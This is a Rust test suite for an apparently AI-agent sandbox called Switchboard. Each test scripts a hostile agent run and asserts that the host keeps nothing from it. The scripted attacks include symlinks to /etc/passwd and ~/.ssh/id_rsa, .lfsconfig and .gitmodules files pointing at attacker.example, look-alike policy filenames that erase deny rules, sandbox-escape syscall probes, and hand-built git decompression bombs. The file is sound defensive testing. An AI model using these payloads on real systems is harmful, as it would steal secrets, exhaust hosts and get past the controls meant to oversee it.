/// hold 7.8 GB): sizes are read from the objects' headers, a base object's name counts only
/// with the base's own size, and the run keeps nothing, saying why.
#[tokio::test(flavor = "multi_thread")]
async fn an_object_that_inflates_past_what_is_kept_is_never_parsed_on_the_host() {
    for mode in ["new", "as-root"] {
        let project = Project::new(true);
        let forge = inflating_tree(200_000_000, mode);
        let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(&forge)]).await;
        assert!(seen.contains("bytes on disk"), "{mode}: {seen}");
        let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
        assert_eq!(
            git(&project.repo, &["rev-parse", &branch]),
            project.head,
            "{mode}"
        );
        assert!(
            events.contains("more than the 16 MiB kept of one"),
            "{mode}: {events}"
        );
    }
}

/// A run writes the policy directory and a denied file under other spellings of their names
/// (letter case, a long s, a character HFS+ ignores, a trailing dot, an 8.3 short name, a
/// dotless i that NTFS upper-cases to `I`), which a macOS or Windows checkout of its branch
/// would write into the real ones. None of them is kept on the branch; the run's other change
/// is.
#[tokio::test(flavor = "multi_thread")]
async fn another_spelling_of_a_protected_name_is_never_kept() {
    let project = Project::new(true);
    let upper = SECRET.to_uppercase();
    let dotless = SECRET.replace('i', "\u{131}");
    let write = format!(
        "for d in .Switchboard '.switch\u{200c}board' .switchboard. '.\u{17f}witchboard' SWITCH~1; do mkdir -p \"$d\" && printf 'deny_read = []\\n' > \"$d/agent-policy.toml\"; done; \
         for f in {upper} '{dotless}'; do mkdir -p \"$(dirname \"$f\")\" && echo leaked > \"$f\"; done; echo kept > notes.txt; ls -a"
    );
    let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(&write)]).await;
    assert!(seen.contains(".Switchboard"), "{seen}");
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    let changed = git(
        &project.repo,
        &["diff", "--name-only", &project.head, &branch],
    );
    assert_eq!(changed, "notes.txt", "{events}");
}

/// A run commits symbolic links to the denied file (directly, through its directory, from
/// the root, through a chain of links whose `..` a lexical reading would miss), out of the
/// repository (absolute, by `..`, a Windows drive) and into `.git`,
/// and files that make git on the user's machine run or fetch what they name at checkout
/// (`.gitattributes` with an lfs filter, `.lfsconfig`, `.gitmodules`, in any directory, and
/// an 8.3 short name that may alias one on Windows).
/// None is kept on the branch; a link inside the project and the run's other change are.
#[tokio::test(flavor = "multi_thread")]
async fn links_out_and_files_git_runs_at_checkout_are_never_kept() {
    let project = Project::new(true);
    let write = "ln -s ../config/production-secrets.toml src/leak; ln -s ../config src/conf; \
         ln -s . here; ln -s /etc/passwd abs; ln -s ../../elsewhere/secret src/up; \
         ln -s 'C:/Windows/win.ini' win; ln -s .git/config gitconf; ln -s ../.switchboard src/pol; \
         mkdir -p a/b && ln -s .. a/b/up && ln -s up/../config/production-secrets.toml a/b/leak && ln -s up/../../../.ssh/id_rsa a/b/key && ln -s UP/../config/production-secrets.toml a/b/mac; \
         ln -s lib.rs src/ok; printf '* filter=lfs diff=lfs merge=lfs\\n' > .gitattributes; \
         mkdir -p sub && printf '*.rs filter=evil\\n' > sub/.gitattributes; \
         printf '[lfs]\\n\\turl = https://attacker.example/\\n' > .lfsconfig; \
         printf '[submodule \"x\"]\\n\\turl = https://attacker.example/x\\n' > .gitmodules; \
         printf '* filter=lfs\\n' > GITATT~1; echo kept > notes.txt; git add -A && git -c user.name=a -c user.email=a@b commit -qm links && git ls-tree -r HEAD";
    let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(write)]).await;
    assert!(seen.contains("src/leak"), "{seen}");
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    let changed = git(
        &project.repo,
        &["diff", "--name-only", &project.head, &branch],
    );
    assert_eq!(changed, "a/b/up\nnotes.txt\nsrc/ok", "{events}");
}

/// Memory a sandboxed program holds outside its own pages (System V shared memory, made
/// and detached) counts to no process, so the kernel's OOM killer would pick the server:
/// every sandboxed program starts as its first choice instead, and its namespaces (the IPC
/// one holding the segment) end with it. An unprivileged program may lower its own score back
/// to its parent's (the kernel allows it), which is why docs/broker.md asks for the server's
/// memory to be bounded by its cgroup; this asserts the start, not an OOM.
#[tokio::test(flavor = "multi_thread")]
async fn a_sandboxed_program_is_the_first_the_oom_killer_takes() {
    let project = Project::new(true);
    let turns = vec![shell("echo adj=$(cat /proc/self/oom_score_adj)")];
    let (_, _, seen) = attack(&project, PERMISSIVE, turns).await;
    assert!(seen.contains("adj=1000"), "{seen}");
}

/// A command agent whose config binds a host path holding Switchboard's data (every run's
/// workspace, the store) or a repository's own checkout (the denied files' real bytes): the
/// first never starts, the second never runs in that repository, and the secret is never
/// read.
#[tokio::test(flavor = "multi_thread")]
async fn a_bind_reaching_switchboards_data_or_a_checkout_is_refused() {
    let project = Project::new(true);
    let model = Model::serve(vec![]).await;
    let sb = Switchboard::with_agents(&[], PERMISSIVE, "");
    let config = sb.dir.path().join("switchboard.toml");
    let base = std::fs::read_to_string(&config).unwrap();
    let agent = |bind: &std::path::Path| {
        format!(
            "[agents.coding]\nbackend = \"command\"\ncommand = [\"/bin/sh\", \"-c\", \"cat {secret}; ls {data}\"]\nsandbox_bind = [\"{bind}\"]\n",
            secret = project.repo.join(SECRET).display(),
            data = sb.data().display(),
            bind = bind.display(),
        )
    };
    // The directory holding the data directory, the store and the config: refused at start.
    std::fs::write(&config, format!("{base}{}", agent(sb.dir.path()))).unwrap();
    let out = sb.run(&["ask", "--agent", "coding", "hello"]);
    let said = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!out.status.success(), "{said}");
    assert!(
        said.contains("bind a directory that holds neither"),
        "{said}"
    );
    // The user's checkout: refused when a run in it would start.
    std::fs::write(&config, format!("{base}{}", agent(&project.repo))).unwrap();
    sb.add(&project);
    let out = sb.run(&["repo", "test", "acme/web"]);
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    project.assert_clean("the answer", &said);
    let id = said
        .split("started run ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next())
        .unwrap_or_else(|| panic!("no run: {said}"))
        .to_owned();
    let (run, events) = sb.record(&id);
    project.assert_clean("a run event", &events);
    assert!(
        format!("{run}{events}").contains("bind a directory that holds neither"),
        "{run} {events}"
    );
    drop(model);
}

/// What reaches past the sandbox from inside it: a new user namespace (nested namespaces are
/// where kernel bugs are reached), the kernel's keyrings (shared with the host's user),
/// io_uring, userfaultfd, bpf and perf events. Each is refused with EPERM; an ordinary
/// program still runs.
#[tokio::test(flavor = "multi_thread")]
async fn calls_that_reach_past_the_sandbox_are_refused() {
    let project = Project::new(true);
    let probe = r#"unshare -U true 2>/dev/null; echo unshare=$?; python3 - <<'PY'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, nr, args in [("keyctl", 250, (0, -3, 0)), ("add_key", 248, (b"user", b"k", b"v", 1, -3)),
                       ("io_uring_setup", 425, (1, ctypes.create_string_buffer(120))),
                       ("userfaultfd", 323, (0,)), ("bpf", 321, (0, 0, 0)),
                       ("perf_event_open", 298, (ctypes.create_string_buffer(128), 0, -1, -1, 0)),
                       ("unshare", 272, (0x10000000,)), ("clone3", 435, (0, 0))]:
    r = libc.syscall(nr, *args)
    print(name, "ok" if r >= 0 else os.strerror(ctypes.get_errno()))
print("pid", os.getpid() > 0)
PY
python3 -c 'import ctypes; ctypes.CDLL(None).syscall(0x40000027)'; echo x32=$?"#;
    let (_, _, seen) = attack(&project, PERMISSIVE, vec![shell(probe)]).await;
    assert!(seen.contains("unshare=1"), "{seen}");
    for name in [
        "keyctl",
        "add_key",
        "io_uring_setup",
        "userfaultfd",
        "bpf",
        "perf_event_open",
        "unshare",
    ] {
        assert!(
            seen.contains(&format!("{name} Operation not permitted")),
            "{name}: {seen}"
        );
    }
    assert!(seen.contains("clone3 Function not implemented"), "{seen}");
    assert!(seen.contains("pid True"), "{seen}");
    // A call through the x32 ABI (getpid's number with the x32 bit) kills the process: SIGSYS.
    assert!(seen.contains("x32=159"), "{seen}");
}

/// A command agent keeps the host's network, and with it every abstract UNIX socket on the
/// host (they belong to the network namespace: a display server's, a container runtime's).
/// It cannot open a UNIX socket at all; its own inet connections still work.
#[tokio::test(flavor = "multi_thread")]
async fn a_command_agent_never_reaches_the_hosts_abstract_sockets() {
    use std::os::linux::net::SocketAddrExt;
    let name = format!("switchboard-test-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let listener = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    listener.set_nonblocking(true).unwrap();
    let dgram_name = format!("{name}-dgram");
    let dgram_addr =
        std::os::unix::net::SocketAddr::from_abstract_name(dgram_name.as_bytes()).unwrap();
    let dgram = std::os::unix::net::UnixDatagram::bind_addr(&dgram_addr).unwrap();
    dgram.set_nonblocking(true).unwrap();
    let sb = Switchboard::with_agents(&[], PERMISSIVE, "");
    let config = sb.dir.path().join("switchboard.toml");
    let code = format!(
        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX); s.connect(b'\\0{name}'); print('reached')\nexcept OSError as e:\n    print('refused', e)\ntry:\n    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(b'hello', b'\\0{name}-dgram'); print('sent')\nexcept OSError as e:\n    print('refused pair', e)\ntry:\n    a, b = socket.socketpair(); a.send(b'x'); print('pair', b.recv(1))\nexcept OSError as e:\n    print('no stream pair', e)\n"
    );
    // A JSON string is a TOML basic string here (no control character but the newlines).
    let agent = format!(
        "[agents.boxed]\nbackend = \"command\"\ncommand = [\"/usr/bin/python3\", \"-c\", {}]\n",
        serde_json::to_string(&code).unwrap()
    );
    let base = std::fs::read_to_string(&config).unwrap();
    std::fs::write(&config, format!("{base}{agent}")).unwrap();
    let out = tokio::task::spawn_blocking(move || sb.ask(&["--agent", "boxed", "probe"]))
        .await
        .unwrap();
    let said = out.to_string();
    assert!(said.contains("refused"), "{said}");
    assert!(said.contains("refused pair"), "{said}");
    assert!(
        said.contains("pair b'x'"),
        "a stream pair still works: {said}"
    );
    assert!(
        !said.contains("reached") && !said.contains("sent"),
        "{said}"
    );
    assert!(listener.accept().is_err(), "a connection was made");
    let mut buf = [0u8; 16];
    assert!(dgram.recv(&mut buf).is_err(), "a datagram arrived");
}

/// A denied file whose bytes the base also shows elsewhere (an empty `.env` is every empty
/// file): a run that adds an empty file keeps it, since the id names nothing it could not read.
#[tokio::test(flavor = "multi_thread")]
async fn a_run_keeps_a_file_whose_bytes_a_denied_file_shares_with_an_allowed_one() {
    let mut project = Project::new(true);
    std::fs::write(project.repo.join(".env"), "").unwrap();
    std::fs::write(project.repo.join("src/empty.txt"), "").unwrap();
    git(&project.repo, &["add", "-A"]);
    git(&project.repo, &["commit", "-q", "-m", "an empty .env"]);
    project.head = git(&project.repo, &["rev-parse", "HEAD"]);
    let turns = vec![shell("touch src/__init__.py; echo kept > notes.txt")];
    let (run, events, _) = attack(&project, PERMISSIVE, turns).await;
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    let changed = git(
        &project.repo,
        &["diff", "--name-only", &project.head, &branch],
    );
    assert_eq!(changed, "notes.txt\nsrc/__init__.py", "{events}");
}

/// A run writes nine loose files of 60 MiB each (one letter repeated: under the 64 MiB kept
/// of one file, a few hundred KB on disk together) and a small change. The sizes in the
/// objects' headers add up past what is kept of one run, so no git on the host inflates
/// them and nothing of the run is kept, saying why.
#[tokio::test(flavor = "multi_thread")]
async fn objects_that_together_inflate_past_what_is_kept_are_never_kept() {
    let project = Project::new(true);
    let forge = r#"python3 - <<'PY'
import zlib, hashlib, os
for letter in b"abcdefghi":
    size = 60 << 20
    h = hashlib.sha1(); c = zlib.compressobj(9)
    out = open(".git/objects/tmpbig", "wb")
    def put(b):
        h.update(b); out.write(c.compress(b))
    put(b"blob %d\0" % size)
    chunk = bytes([letter]) * (1 << 22)
    for _ in range(size // len(chunk)): put(chunk)
    out.write(c.flush()); out.close()
    oid = h.hexdigest(); d = ".git/objects/" + oid[:2]
    os.makedirs(d, exist_ok=True); os.replace(".git/objects/tmpbig", d + "/" + oid[2:])
    print("blob", oid, os.path.getsize(d + "/" + oid[2:]), "bytes on disk")
PY
echo kept > notes.txt"#;
    let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(forge)]).await;
    assert!(seen.contains("bytes on disk"), "{seen}");
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    assert_eq!(git(&project.repo, &["rev-parse", &branch]), project.head);
    assert!(
        events.contains("more than the 512 MiB of objects kept of one run"),
        "{events}"
    );
}

/// A run writes a pack by hand: a 6-byte file stored as a delta on a 300 MiB blob of zeros
/// that the pack's index does not list (so no listing of the run's objects counts it), and
/// commits the file. Git on the host would have to inflate the hidden base whole to read
/// the file; it is never let allocate that much, so nothing of the run is kept.
#[tokio::test(flavor = "multi_thread")]
async fn a_delta_on_a_hidden_base_is_never_inflated_on_the_host() {
    let project = Project::new(true);
    let forge = r#"python3 - <<'PY'
import zlib, hashlib, struct, os
def entry_header(kind, size):
    out = bytearray(); byte = (kind << 4) | (size & 15); size >>= 4
    while size:
        out.append(byte | 0x80); byte = size & 0x7f; size >>= 7
    out.append(byte); return bytes(out)
def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7f; n >>= 7
        if n: out.append(b | 0x80)
        else: out.append(b); return bytes(out)
def distance(n):
    out = [n & 0x7f]; n >>= 7
    while n:
        n -= 1; out.insert(0, 0x80 | (n & 0x7f)); n >>= 7
    return bytes(out)
big = 300 << 20
c = zlib.compressobj(9); chunk = bytes(1 << 22); hidden = bytearray()
for _ in range(big // len(chunk)): hidden += c.compress(chunk)
hidden += c.flush()
pack = bytearray(b"PACK" + struct.pack(">II", 2, 1))
base_at = len(pack)
pack += entry_header(3, big) + hidden
content = b"small\n"
delta = varint(big) + varint(len(content)) + bytes([len(content)]) + content
file_at = len(pack)
entry = entry_header(6, len(delta)) + distance(file_at - base_at) + zlib.compress(delta)
pack += entry
pack_sum = hashlib.sha1(pack).digest(); pack += pack_sum
oid = hashlib.sha1(b"blob %d\0" % len(content) + content).digest()
idx = bytearray(b"\377tOc" + struct.pack(">I", 2))
idx += b"".join(struct.pack(">I", 0 if i < oid[0] else 1) for i in range(256))
idx += oid + struct.pack(">I", zlib.crc32(entry)) + struct.pack(">I", file_at) + pack_sum
idx += hashlib.sha1(idx).digest()
name = ".git/objects/pack/pack-" + pack_sum.hex()
open(name + ".pack", "wb").write(pack); open(name + ".idx", "wb").write(idx)
print("hidden base", len(hidden), "bytes on disk; file", oid.hex())
PY
blob=$(printf 'small\n' | git hash-object --stdin)
git cat-file -s $blob
tree=$( (git ls-tree HEAD; printf '100644 blob %s\tsmall.txt\n' $blob) | git mktree)
c=$(git -c user.name=a -c user.email=a@b commit-tree $tree -p HEAD -m hidden)
git update-ref $(git symbolic-ref HEAD) $c && git log --oneline -1"#;
    let (run, events, seen) = attack(&project, PERMISSIVE, vec![shell(forge)]).await;
    assert!(seen.contains("hidden base"), "{seen}");
    // The run's own git read the file through the hidden base: the pack is well formed.
    assert!(seen.contains(" hidden"), "{seen}");
    let branch = format!("switchboard/{}", run["id"].as_str().unwrap());
    assert_eq!(git(&project.repo, &["rev-parse", &branch]), project.head);
    assert!(
        events.contains("the run's changes could not be kept: git pack-objects"),
        "{events}"
    );
}
